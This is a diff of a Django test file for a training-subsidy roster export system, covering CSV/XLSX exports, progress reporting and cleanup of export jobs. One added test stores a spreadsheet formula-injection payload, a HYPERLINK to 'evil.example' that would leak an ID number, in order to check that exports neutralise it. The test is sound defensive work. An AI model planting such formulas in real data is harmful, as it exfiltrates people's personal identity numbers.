@@ -3,6 +3,7 @@ with its font embedded and Chinese drawn (pdffonts, pdftotext, pdftoppm); full I
 for subsidy officers; every export audited; large ones written by a real Celery worker."""
 
 import csv
+import datetime
 import io
 import shutil
 import subprocess
@@ -124,7 +125,7 @@ def test_the_roster_xlsx_has_the_usual_columns_and_masked_ids_for_organisers(
         wang.worker.id_number_masked,
         "1990-05",
         "初中",
-        "兴宁区450102001000民乐村",
+        "兴宁区测试镇001民乐村",
         wang.worker.masked_phone,
     )
     assert "*" in data[0][3] and "*" in data[0][7]
@@ -336,7 +337,7 @@ def test_the_sweeper_deletes_exports_after_a_day(training, superuser):
 
 @pytest.mark.services
 @pytest.mark.django_db(transaction=True, serialized_rollback=True)
-def test_a_real_worker_writes_a_large_export_with_progress(client, redis_broker, settings):
+def test_a_real_worker_writes_a_large_export_for_its_requester(client, redis_broker, settings):
     settings.CHUNFENG_SYNC_EXPORT_ROWS = 1
     event, sessions, _now = training_class()
     for _ in range(3):
@@ -354,3 +355,92 @@ def test_a_real_worker_writes_a_large_export_with_progress(client, redis_broker,
     download = client.get(status["jobs"][0]["download"])
     sheet = openpyxl.load_workbook(io.BytesIO(b"".join(download.streaming_content))).active
     assert sum(1 for row in sheet.iter_rows(values_only=True) if isinstance(row[0], int)) == 3
+
+
+def test_nothing_typed_by_a_person_becomes_a_formula(client, training):
+    """A name typed as a formula stays text: openpyxl would write it as a formula and Excel
+    would run it, sending a neighbouring full ID number away when clicked."""
+    event, wang, _li = training
+    type(wang.worker).objects.filter(pk=wang.worker_id).update(
+        name='=HYPERLINK("http://evil.example/?"&D5,"点")'
+    )
+    client.force_login(staff_member("officer", "Subsidy officers"))
+
+    xlsx = export(client, event, ExportKind.ROSTER, "xlsx")
+    csv_response = export(client, event, ExportKind.ROSTER, "csv")
+
+    sheet = openpyxl.load_workbook(io.BytesIO(xlsx.content)).active
+    cell = next(row[1] for row in sheet.iter_rows() if str(row[1].value).startswith("=HYPER"))
+    assert cell.data_type == "s" and cell.quotePrefix
+    text = csv_response.content.decode("utf-8-sig")
+    assert "'=HYPERLINK" in text and ",=HYPERLINK" not in text
+
+
+def test_csv_keeps_id_and_mobile_numbers_as_text_for_excel(officer_client, training):
+    event, wang, _li = training
+
+    text = export(officer_client, event, ExportKind.ROSTER, "csv").content.decode("utf-8-sig")
+
+    row = next(row for row in csv.reader(io.StringIO(text)) if len(row) > 1 and row[1] == "王芳")
+    assert row[3] == f'="{crypto.decrypt(wang.worker.id_number_encrypted)}"'
+    assert row[7] == f'="{wang.worker.phone}"'
+
+
+def test_writers_report_progress_every_thousand_rows():
+    from events.reports.sheets import Document, Table
+    from events.reports.writers import write
+
+    document = Document(
+        title="进度",
+        lines=[],
+        tables=[Table(title="", header=[["序号"]], rows=([n] for n in range(2500)))],
+        slug="progress",
+    )
+    seen = []
+
+    rows = write(document, file_format="xlsx", out=io.BytesIO(), progress=seen.append)
+
+    assert rows == 2500 and seen == [1000, 2000]
+
+
+def test_a_large_export_is_written_in_the_language_it_was_asked_in(client, training, settings):
+    event, _wang, _li = training
+    settings.CHUNFENG_SYNC_EXPORT_ROWS = 1
+    client.force_login(staff_member("bureau", "Bureau statistics"))
+
+    client.post(
+        reverse("statistics:export", args=[event.pk]),
+        {"kind": ExportKind.ROSTER, "format": "csv"},
+        HTTP_ACCEPT_LANGUAGE="en",
+    )
+    job = ExportJob.objects.get()
+    services.run_export(job_id=job.pk)
+
+    job.refresh_from_db()
+    assert job.language == "en"
+    assert "Roster" in job.file.open("rb").read().decode("utf-8-sig")
+
+
+@pytest.mark.services
+def test_the_sweeper_hands_over_waiting_jobs_and_gives_up_on_dead_ones(
+    training, superuser, redis_broker
+):
+    event, _wang, _li = training
+    waiting, running = (
+        ExportJob.objects.create(
+            kind=ExportKind.ROSTER, file_format="csv", event=event, requested_by=superuser
+        )
+        for _ in range(2)
+    )
+    started = waiting.created_at
+    ExportJob.objects.filter(pk=running.pk).update(status=ExportStatus.RUNNING, started_at=started)
+
+    recent = services.sweep_exports(now=started + datetime.timedelta(minutes=1))
+    later = services.sweep_exports(now=started + services.EXPORT_GIVE_UP_AFTER * 2)
+
+    assert recent == {"handed_over": 0, "failed": 0, "deleted": 0}
+    assert (later["handed_over"], later["failed"]) == (1, 1)
+    assert ExportJob.objects.get(pk=running.pk).status == ExportStatus.FAILED
+    assert ExportJob.objects.get(pk=waiting.pk).handed_over_at is not None
+    again = services.sweep_exports(now=started + services.EXPORT_GIVE_UP_AFTER * 2)
+    assert again["handed_over"] == 0, "handed over a moment ago: not again yet"
